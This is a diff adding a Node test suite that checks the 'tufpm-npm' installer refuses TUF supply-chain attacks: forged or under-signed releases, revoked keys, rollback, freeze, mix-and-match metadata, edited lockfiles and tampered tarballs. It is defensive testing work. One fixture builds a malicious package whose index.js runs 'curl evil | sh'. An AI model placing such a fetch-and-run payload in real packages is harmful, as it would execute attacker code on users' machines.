@@ -1,0 +1,174 @@
+import { after, before, describe, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { existsSync } from 'node:fs';
+import { join } from 'node:path';
+import { buildPackageTarball } from '@tufpm/registry';
+import { NpmWorld, type CliResult, type Project } from '../src/harness/npm-world.js';
+
+// The TUF attack list against tufpm-npm (real Arborist in a child process), one test per attack. Every
+// refused install must exit 1 with a coded error and leave package.json, package-lock.json,
+// tufpm-lock.json and node_modules exactly as they were.
+
+const evilTarball = (name: string, version: string): Uint8Array =>
+  buildPackageTarball({ name, version, files: { 'index.js': 'require("child_process").exec("curl evil | sh")\n' } });
+
+async function refused(project: Project, args: string[], code: RegExp, attack: RegExp): Promise<CliResult> {
+  const before = await project.state();
+  const res = await project.tufpmNpm(args);
+  assert.equal(res.code, 1, `exit code 1 expected\n${res.stderr}`);
+  assert.match(res.stderr, code);
+  assert.match(res.stderr, attack);
+  assert.deepEqual(await project.state(), before, 'nothing touched');
+  return res;
+}
+
+describe('tufpm-npm refuses the TUF attacks', () => {
+  let world: NpmWorld;
+  const maintainers = [NpmWorld.maintainer(), NpmWorld.maintainer()];
+
+  before(async () => {
+    world = await NpmWorld.create();
+    await world.publish('right', '1.0.0');
+    await world.publish('left', '1.0.0', { right: '^1.0.0' });
+    await world.claim('guarded', maintainers, 2);
+    await world.publish('guarded', '1.0.0', {}, maintainers.map((m) => m.signer));
+  });
+  after(() => world.close());
+
+  test('rejects a package version missing from its role (arbitrary package), also when npm picks it as latest', async () => {
+    await world.publishUnsigned('right', '1.1.0');
+    const project = await world.project();
+    const res = await refused(project, ['install', 'left'], /TUF_PACKAGE_NOT_SIGNED/, /attack: +arbitrary package/);
+    assert.match(res.stderr, /package: right@1\.1\.0/);
+  });
+
+  test('rejects a tarball signed by the wrong maintainer key', async () => {
+    const owner = NpmWorld.maintainer();
+    const intruder = NpmWorld.maintainer();
+    await world.claim('solo', [owner], 1);
+    await world.publish('solo', '1.0.0', {}, [owner.signer]);
+    const forged = await world.publishUnsigned('solo', '1.0.1');
+    await world.forgeRoleTarget('solo', 'solo', '1.0.1', forged, [intruder.signer]);
+    const project = await world.project();
+    const res = await refused(project, ['install', 'solo@1.0.1'], /TUF_THRESHOLD/, /attack: +metadata not signed by enough trusted keys/);
+    assert.match(res.stderr, /package: solo@1\.0\.1/);
+  });
+
+  test('rejects a release signed with one compromised key of a 2-of-2 package', async () => {
+    const forged = await world.publishUnsigned('guarded', '1.0.1');
+    await world.forgeRoleTarget('guarded', 'guarded', '1.0.1', forged, [maintainers[0]!.signer]);
+    const project = await world.project();
+    await refused(project, ['install', 'guarded@1.0.1'], /TUF_THRESHOLD/, /package: guarded@1\.0\.1/);
+  });
+
+  test('rejects a release signed with a revoked maintainer key', async () => {
+    const [gone, kept] = [NpmWorld.maintainer(), NpmWorld.maintainer()];
+    await world.claim('rotated', [gone, kept], 1);
+    await world.publish('rotated', '1.0.0', {}, [gone.signer]);
+    await world.repo.revokeKey('rotated', gone.key.keyid, { threshold: 1 });
+    const forged = await world.publishUnsigned('rotated', '1.0.1');
+    await world.forgeRoleTarget('rotated', 'rotated', '1.0.1', forged, [gone.signer]);
+    const project = await world.project();
+    await refused(project, ['install', 'rotated@1.0.1'], /TUF_THRESHOLD/, /package: rotated@1\.0\.1/);
+  });
+
+  test('rejects a snapshot rollback on a fresh machine with pins (ci)', async () => {
+    const oldTimestamp = await world.readMetadata('timestamp.json');
+    await world.publish('fresh', '1.0.0');
+    const project = await world.project({ dependencies: { fresh: '^1.0.0', left: '^1.0.0' } });
+    // (right@1.1.0 is unsigned since the first test: pin left's dependency to the signed version)
+    await project.write('package.json', JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { fresh: '^1.0.0', left: '^1.0.0', right: '1.0.0' } }));
+    const install = await project.tufpmNpm(['install']);
+    assert.equal(install.code, 0, install.stderr);
+    const current = await world.readMetadata('timestamp.json');
+    try {
+      await world.writeMetadata('timestamp.json', oldTimestamp);
+      await project.freshMachine();
+      const res = await refused(project, ['ci'], /TUF_PIN_ROLLBACK/, /attack: +rollback/);
+      assert.match(res.stderr, /role: +timestamp/);
+    } finally {
+      await world.writeMetadata('timestamp.json', current);
+    }
+    assert.equal((await project.tufpmNpm(['ci'])).code, 0, 'the real state installs again');
+  });
+
+  test('rejects mix-and-match: a role file of another version than the snapshot lists', async () => {
+    // Bins are chosen by the hash of the target path: publish until the bin of mixed@1.0.1 has two versions.
+    const { role } = await world.publish('mixed', '1.0.1');
+    for (let i = 0; (await world.metadataFiles()).filter((f) => f.endsWith(`.${role}.json`)).length < 2; i++) {
+      await world.publish(`filler${i}`, '1.0.0');
+    }
+    const versions = (await world.metadataFiles())
+      .map((f) => new RegExp(`^(\\d+)\\.${role}\\.json$`).exec(f))
+      .filter((m): m is RegExpExecArray => m !== null)
+      .map((m) => Number(m[1]))
+      .sort((a, b) => a - b);
+    const latest = versions.at(-1)!;
+    const real = await world.readMetadata(`${latest}.${role}.json`);
+    try {
+      await world.writeMetadata(`${latest}.${role}.json`, await world.readMetadata(`${versions.at(-2)!}.${role}.json`));
+      const project = await world.project();
+      await refused(project, ['install', 'mixed@1.0.1'], /TUF_VERSION_MISMATCH|TUF_HASH|TUF_LENGTH/, /package: mixed@1\.0\.1/);
+    } finally {
+      await world.writeMetadata(`${latest}.${role}.json`, real);
+    }
+  });
+
+  test('rejects over-length metadata (endless data)', async () => {
+    const real = await world.readMetadata('timestamp.json');
+    try {
+      await world.writeMetadata('timestamp.json', Buffer.concat([real, Buffer.alloc(64 * 1024, 0x20)]));
+      const project = await world.project();
+      await refused(project, ['install', 'left'], /TUF_LENGTH/, /attack: +endless data/);
+    } finally {
+      await world.writeMetadata('timestamp.json', real);
+    }
+  });
+
+  test('rejects an edited package-lock.json integrity (ci)', async () => {
+    const project = await world.project();
+    assert.equal((await project.tufpmNpm(['install', 'right@1.0.0'])).code, 0);
+    const lock = JSON.parse((await project.read('package-lock.json'))!) as { packages: Record<string, { integrity: string }> };
+    lock.packages['node_modules/right']!.integrity = `sha512-${Buffer.alloc(64, 7).toString('base64')}`;
+    await project.write('package-lock.json', `${JSON.stringify(lock, null, 2)}\n`);
+    const res = await refused(project, ['ci'], /TUF_LOCK_INTEGRITY/, /attack: +edited package-lock.json integrity/);
+    assert.match(res.stderr, /package: right@1\.0\.0/);
+    assert.equal((await project.tufpmNpm(['verify'])).code, 1, 'verify reports it too');
+  });
+
+  test('rejects a tampered tarball of an optional dependency (npm would silently skip it)', async () => {
+    await world.publish('optional-victim', '1.0.0');
+    await world.replaceTarball('optional-victim', '1.0.0', evilTarball('optional-victim', '1.0.0'));
+    const project = await world.project({ dependencies: { right: '1.0.0' }, optionalDependencies: { 'optional-victim': '^1.0.0' } });
+    await refused(project, ['install'], /TUF_TARBALL_MISMATCH/, /package: optional-victim@1\.0\.0/);
+    assert.ok(!existsSync(join(project.dir, 'node_modules')));
+  });
+
+  test('refuses git, file and remote-URL dependencies unless an unsafe flag allows them', async () => {
+    const project = await world.project();
+    const local = await world.tempDir('local-');
+    await project.write(`${local.slice(project.dir.length)}/package.json`, '{}').catch(() => undefined);
+    const { writeFile } = await import('node:fs/promises');
+    await writeFile(join(local, 'package.json'), JSON.stringify({ name: 'local', version: '1.0.0' }));
+    await project.write('package.json', JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { local: `file:${local}` } }));
+    await refused(project, ['install'], /TUF_UNSAFE_SOURCE/, /package: local@1\.0\.0/);
+    const allowed = await project.tufpmNpm(['install', '--unsafe-allow-file']);
+    assert.equal(allowed.code, 0, allowed.stderr);
+    assert.match(allowed.stderr, /unsafe setting in effect: tufpm-unsafe-allow-file/);
+  });
+});
+
+describe('tufpm-npm refuses an expired timestamp (freeze)', () => {
+  let world: NpmWorld;
+  before(async () => {
+    // Everything signed ten days ago with default expiries: the timestamp (1 day) has expired.
+    world = await NpmWorld.create({ now: new Date(Date.now() - 10 * 24 * 3600 * 1000) });
+    await world.publish('left', '1.0.0');
+  });
+  after(() => world.close());
+
+  test('rejects an expired timestamp (freeze attack)', async () => {
+    const project = await world.project();
+    await refused(project, ['install', 'left'], /TUF_EXPIRED/, /attack: +freeze/);
+  });
+});
